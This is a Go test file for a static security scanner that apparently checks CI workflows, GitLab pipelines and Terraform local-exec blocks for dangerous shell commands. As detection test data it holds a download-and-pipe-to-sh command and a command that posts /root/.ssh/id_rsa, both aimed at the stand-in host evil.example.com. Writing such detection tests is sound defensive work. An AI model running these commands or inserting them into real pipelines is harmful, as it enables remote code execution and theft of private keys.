package static_test

import (
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"go.yaml.in/yaml/v3"
	"golang.org/x/tools/txtar"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
	"github.com/aigate/gate/gate/static/rules"
	"github.com/aigate/gate/tools/testenv"
)

// pipelines returns the files of a text archive, each with the words behind its path.
func pipelines(t *testing.T, name string) []txtar.File {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "pipelines", name))
	if err != nil {
		t.Fatal(err)
	}
	return txtar.Parse(data).Files
}

// settings scans a file as a new one, as what its name says it is.
func settings(t *testing.T, of txtar.File) []gate.Finding {
	t.Helper()
	path, _, _ := strings.Cut(of.Name, " ")
	target := &gate.Target{Path: path, Kind: gate.ChangeAdded, Size: int64(len(of.Data))}
	target.Language, target.Role = change.Classify(path, fs.FileMode(0o644), of.Data[:min(len(of.Data), change.HeadBytes)])
	return run(t, newScanner(t, nil), fstest.MapFS{path: {Data: of.Data}}, target).found[path]
}

func TestPipelineAndToolCommandsAreRead(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for _, file := range pipelines(t, "runs.txt") {
		t.Run(file.Name, func(t *testing.T) {
			isDangerous(t, file)
		})
		bare := bytes.ReplaceAll(file.Data, []byte(" -s http://evil.example.com/x | sh"), []byte(" -s evil.example.com/x|sh"))
		if !bytes.Equal(bare, file.Data) {
			t.Run(file.Name+" without a scheme and blanks", func(t *testing.T) {
				isDangerous(t, txtar.File{Name: file.Name, Data: bare})
			})
		}
		// Of the other payload, nothing is dangerous without the name of the program.
		other := bytes.ReplaceAll(file.Data, []byte(" -s http://evil.example.com/x | sh"), []byte(" -s --data-binary @/root/.ssh/id_rsa http://evil.example.com/"))
		if !bytes.Equal(other, file.Data) {
			t.Run(file.Name+" that sends", func(t *testing.T) {
				isDangerous(t, txtar.File{Name: file.Name, Data: other})
			})
		}
	}
}

func TestStepsThatRunOneAfterTheOtherAreReadAsOneScript(t *testing.T) {
	for _, file := range pipelines(t, "asks.txt") {
		t.Run(file.Name, func(t *testing.T) {
			if got := decisive(settings(t, file)); !strings.Contains(got, "download-execute/shell-file") {
				t.Errorf("found %s\n%s", got, file.Data)
			}
		})
	}
}

func isDangerous(t *testing.T, file txtar.File) {
	t.Helper()
	found := settings(t, file)
	for _, f := range found {
		if f.Severity == gate.SeverityDangerous {
			return
		}
	}
	t.Errorf("not dangerous: %s\n%s", decisive(found), file.Data)
}

func TestBenignPipelinesHaveNoFinding(t *testing.T) {
	for _, file := range pipelines(t, "honest.txt") {
		t.Run(file.Name, func(t *testing.T) {
			if got := decisive(settings(t, file)); got != "" {
				t.Errorf("found %s\n%s", got, file.Data)
			}
		})
	}
}

// decisive lists the findings that ask for a review.
func decisive(found []gate.Finding) string {
	var out []string
	for _, f := range found {
		if f.Severity > gate.SeverityNote {
			out = append(out, fmt.Sprintf("%s (%s, line %d: %s)", f.Rule, f.Severity, f.Line, f.Evidence))
		}
	}
	return strings.Join(out, "; ")
}

// shellSamples are the texts that the rules for shell are shown to match, and that are
// dangerous as a script.
func shellSamples(t *testing.T) map[string]string {
	t.Helper()
	out := map[string]string{}
	names, err := fs.Glob(rules.FS, "shell-*/samples.yaml")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		data, err := fs.ReadFile(rules.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		var samples map[string]struct {
			Match []struct{ Text, Language, Path, Role string }
		}
		if err := yaml.Unmarshal(data, &samples); err != nil {
			t.Fatal(err)
		}
		for rule, of := range samples {
			for i, s := range of.Match {
				if s.Path == "" && s.Role == "" && (s.Language == "" || s.Language == "shell") {
					out[fmt.Sprintf("%s %d", rule, i)] = s.Text
				}
			}
		}
	}
	return out
}

func TestAScriptIsAsDangerousInAPipelineAsByItself(t *testing.T) {
	testenv.WithoutRace(t, "hundreds of scripts, one at a time through the whole layer")
	indented := func(text, by string) string {
		return by + strings.ReplaceAll(strings.TrimSuffix(text, "\n"), "\n", "\n"+by) + "\n"
	}
	samples := shellSamples(t)
	for _, name := range []string{"exfiltration/shell-env-text 0", "credentials/shell-env-file 1"} {
		delete(samples, name) // what is dangerous of it is a .env file, which pipelines make for themselves
	}
	for name, text := range samples {
		if worstOf(settings(t, txtar.File{Name: "tool.sh", Data: []byte(text)})) < gate.SeverityDangerous || strings.HasPrefix(text, "#!") {
			continue
		}
		for _, c := range []struct{ path, before, by string }{
			{".github/workflows/new.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: |\n", "          "},
			{".gitlab-ci.yml", "build:\n  script:\n    - |\n", "      "},
			{"deploy.tf", "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = <<EOT\n", ""},
		} {
			after := ""
			if strings.HasSuffix(c.path, ".tf") {
				after = "EOT\n  }\n}\n"
			}
			file := txtar.File{Name: c.path, Data: []byte(c.before + indented(text, c.by) + after)}
			if found := settings(t, file); worstOf(found) < gate.SeverityDangerous {
				t.Errorf("%s in %s is not dangerous: %s\n%s", name, c.path, decisive(found), text)
			}
		}
	}
}

func worstOf(found []gate.Finding) gate.Severity {
	worst := gate.SeverityUnknown
	for _, f := range found {
		worst = max(worst, f.Severity)
	}
	return worst
}
